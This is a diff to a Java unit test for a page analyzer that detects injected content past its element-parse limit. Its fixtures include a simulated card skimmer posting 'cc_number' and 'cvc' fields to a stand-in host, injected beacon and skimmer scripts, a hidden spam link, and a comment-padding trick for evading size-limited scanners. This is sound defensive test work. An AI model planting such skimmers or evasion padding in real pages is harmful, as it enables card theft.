@@ -79,25 +79,41 @@ class PageAnalyzerTest {
   }
 
   /**
-   * A page is read to its first {@link PageAnalyzer#MAX_ELEMENTS} elements (the box's heap holds a few thousand-element
-   * DOM, not a 30,000-row archive); what lies after them is not read, by the parser nor by the raw scan for dropped forms.
+   * A page is parsed to its first {@link PageAnalyzer#MAX_ELEMENTS} elements (the box's heap holds a few thousand-element
+   * DOM, not a 30,000-row archive); of the rest only the tags that load, send or point somewhere are read, as an
+   * attacker appends them: a script, a form and its fields, a hidden link, and not what a comment holds. Padding
+   * 10,000 tags into a comment before a skimmer does not hide it.
    */
   @Test
-  void readsAPageToItsFirstTenThousandElements() {
+  void readsAPageToItsFirstTenThousandElementsAndTheTagsOfItsTail() {
     String card = "<form method=\"post\" action=\"/checkout\"><form action=\"https://pay-gate.example/charge.php\">"
         + "<input name=\"cc_number\"><input type=\"password\" name=\"cvc\"></form></form>";
-    String late = "<form action=\"https://later.example/post\"><input name=\"q\"></form>"
-        + "<script src=\"https://late.example/x.js\"></script>";
+    String late = "<div class='x'><form action=\"https://later.example/post\"><input name=\"q\"></form></div>"
+        + "<!-- <script src=\"https://commented.example/x.js\"></script> -->"
+        + "<p title='a > b'><a href=\"https://casino-link.example/\">オンラインカジノ</a></p>"
+        + "<script src=\"https://late.example/x.js\"></script><script>new Image().src='https://beacon.example/c?'+1</script>";
     String rows = "<p>新しい設備を導入しました</p>\n";
-    List<String> huge = analyze(card + rows.repeat(12_000) + late).resources().stream().map(r -> r.url().getHost()).toList();
-    assertThat(huge).contains("pay-gate.example").doesNotContain("later.example", "late.example");
-    List<String> small = analyze(card + rows.repeat(100) + late).resources().stream().map(r -> r.url().getHost()).toList();
-    assertThat(small).contains("pay-gate.example", "later.example", "late.example");
+    PageFacts huge = analyze(card + rows.repeat(12_000) + late);
+    assertThat(huge.resources()).extracting(r -> r.url().getHost())
+        .contains("pay-gate.example", "later.example", "late.example", "beacon.example").doesNotContain("commented.example");
+    assertThat(analyze(card + rows.repeat(100) + late).resources()).extracting(r -> r.url().getHost())
+        .contains("pay-gate.example", "later.example", "late.example", "beacon.example").doesNotContain("commented.example");
+
+    PageFacts padded = analyze("<p>お知らせ</p><!--" + "<a>".repeat(11_000) + "--><script src=\"https://skim.example/s.js\"></script>");
+    assertThat(padded.resources()).extracting(r -> r.url().getHost()).contains("skim.example");
+    PageFacts links = analyze("<p>お知らせ</p>" + "<a href=#>x</a>".repeat(12_000) + "<script src=\"https://skim.example/s.js\"></script>");
+    assertThat(links.resources()).extracting(r -> r.url().getHost()).contains("skim.example");
 
     byte[] body = "<p>a</p> < b </p><br><!-- x --><P>".getBytes(StandardCharsets.UTF_8);
     assertThat(Bodies.elementsCut(body, 1)).isEqualTo("<p>a</p> < b </p>".length());
     assertThat(Bodies.elementsCut(body, 2)).isEqualTo("<p>a</p> < b </p><br><!-- x -->".length());
     assertThat(Bodies.elementsCut(body, 3)).isEqualTo(body.length);
+    byte[] hidden = "<!-- <a><a> --><script>if (a<b && c<d) {}</script><p>".getBytes(StandardCharsets.UTF_8);
+    assertThat(Bodies.elementsCut(hidden, 1)).isEqualTo(hidden.length - "<p>".length());
+    byte[] tail = "<div><a href='/x' title=\"1>0\">リンク</a><img src=x.gif><p>本文</p><STYLE>@import url(//s.example/a.css)</STYLE>"
+        .getBytes(StandardCharsets.UTF_8);
+    assertThat(Bodies.tailTags(tail, 0, StandardCharsets.UTF_8))
+        .isEqualTo("<a href='/x' title=\"1>0\">リンク</a><img src=x.gif><STYLE>@import url(//s.example/a.css)</style>");
   }
 
   /**
